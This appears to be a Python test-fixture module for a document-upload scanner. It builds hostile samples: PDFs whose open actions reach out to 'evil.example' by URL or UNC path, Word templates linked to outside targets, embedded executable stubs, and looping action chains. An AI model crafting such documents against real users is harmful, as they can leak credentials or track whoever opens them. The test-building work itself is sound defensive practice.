"""Makes small documents, mails and lists, as hostile as a test asks for."""

import io
import zipfile
from collections.abc import Callable
from email.message import EmailMessage

import openpyxl
import pikepdf

from council.uploads.kinds import KINDS
from tests.council.uploads.compound import compound_file

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
CONTENT = '<Override ContentType="application/vnd.openxmlformats-officedocument.{}.main+xml"/>'
PROGRAM = b"MZ\x90\x00" + bytes(60)


def archive(**entries: str | bytes) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as book:
        for name, content in entries.items():
            book.writestr(name, content)
    return data.getvalue()


def word(text: str = "<w:p/>", **parts: str | bytes) -> bytes:
    return archive(
        **{
            "[Content_Types].xml": CONTENT.format("wordprocessingml.document"),
            "word/document.xml": f"<w:document {W}>{text}</w:document>",
        },
        **parts,
    )


def excel(*formulas: str, **parts: str | bytes) -> bytes:
    cells = "".join(f"<c><f>{formula}</f></c>" for formula in formulas)
    return archive(
        **{
            "[Content_Types].xml": CONTENT.format("spreadsheetml.sheet"),
            "xl/workbook.xml": "<workbook/>",
            "xl/worksheets/sheet1.xml": f"<worksheet>{cells}</worksheet>",
            **parts,
        },
    )


def linked(kind: str, target: str, *, mode: str = ' TargetMode="External"') -> str:
    return f'<Relationships><Relationship Type="{TYPES}{kind}" Target="{target}"{mode}/></Relationships>'


def writer(content: str, **parts: str | bytes) -> bytes:
    return archive(mimetype=KINDS["odt"].content_type, **{"content.xml": content}, **parts)


def pdf(**root: object) -> bytes:
    data = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        for key, value in root.items():
            document.Root[f"/{key}"] = value
        document.save(data, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return data.getvalue()


def act(kind: str, **keys: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **keys)


def pdf_carrying(name: str, content: bytes) -> bytes:
    data = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        document.attachments[name] = content
        document.save(data)
    return data.getvalue()


def mail(name: str, content: bytes) -> bytes:
    message = EmailMessage()
    message["From"], message["Date"] = "alice@council.example", "Mon, 15 Jun 2026 10:00:00 +0100"
    message.set_content("As agreed.")
    message.add_attachment(content, maintype="application", subtype="octet-stream", filename=name)
    return message.as_bytes()


def forwarded(name: str, content: bytes) -> bytes:
    message = EmailMessage()
    message["From"], message["Date"] = "bob@council.example", "Mon, 15 Jun 2026 11:00:00 +0100"
    inner = EmailMessage()
    inner.set_content("See within.")
    inner.add_attachment(content, maintype="image", subtype="png", filename=name)
    message.set_content("Forwarded.")
    message.add_attachment(inner)
    return message.as_bytes()


def outlook(name: str, content: bytes, **streams: bytes) -> bytes:
    attached = "__attach_version1.0_#00000000/__substg1.0_"
    return compound_file(
        {
            "__properties_version1.0": bytes(32),
            f"{attached}3707001F": name.encode("utf-16-le"),
            f"{attached}37010102": content,
            **streams,
        }
    )


def real_workbook() -> bytes:
    data, book = io.BytesIO(), openpyxl.Workbook()
    book.active.append(
        ["=A2&\"|\"&'Q1|Q2'!B1", "plain | words!", '=HYPERLINK("https://council.example","us")']
    )
    book.create_sheet("Q1|Q2")
    book.save(data)
    return data.getvalue()


def cells(markup: str, path: str = "xl/worksheets/sheet1.xml") -> bytes:
    return excel(**{path: f"<worksheet><c>{markup}</c></worksheet>"})


def template(target: str) -> bytes:
    return word(**{"word/_rels/settings.xml.rels": linked("attachedTemplate", target)})


def pdf_of(change: Callable[[pikepdf.Pdf], None]) -> bytes:
    data = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        change(document)
        document.save(data)
    return data.getvalue()


def raw_mail(headers: str, body: str = "x") -> bytes:
    return (
        "From: a@council.example\r\nDate: Mon, 15 Jun 2026 10:00:00 +0100\r\nMIME-Version: 1.0\r\n"
        f"{headers}\r\n\r\n{body}"
    ).encode()


def opening_next(document: pikepdf.Pdf) -> None:
    address = document.make_indirect(act("URI", URI=pikepdf.String("https://evil.example")))
    document.Root.OpenAction = document.make_indirect(act("Named", N=pikepdf.Name.FirstPage, Next=address))


def opening_many(document: pikepdf.Pdf) -> None:
    address = document.make_indirect(act("GoToR", F=pikepdf.String(r"\\\\evil.example\s\a.pdf")))
    following = document.make_indirect(pikepdf.Array([act("Named", N=pikepdf.Name.FirstPage), address]))
    document.Root.OpenAction = act("GoTo", D=pikepdf.Array([0]), Next=following)


def page_act(document: pikepdf.Pdf) -> None:
    address = document.make_indirect(act("URI", URI=pikepdf.String("https://evil.example")))
    document.pages[0].obj.AA = document.make_indirect(pikepdf.Dictionary(O=address))


def outside_stream(document: pikepdf.Pdf) -> None:
    document.Root.Extra = document.make_stream(b"", F=pikepdf.String(r"\\\\evil.example\s\a"))


def unnamed_attachment(document: pikepdf.Pdf) -> None:
    file = document.make_stream(PROGRAM)
    document.Root.Extra = pikepdf.Dictionary(Type=pikepdf.Name.Filespec, EF=pikepdf.Dictionary(F=file))


def ring(document: pikepdf.Pdf) -> None:
    first = document.make_indirect(act("GoTo", D=pikepdf.Array([0])))
    first.Next = document.make_indirect(act("GoTo", D=pikepdf.Array([0]), Next=first))
    document.Root.OpenAction = first
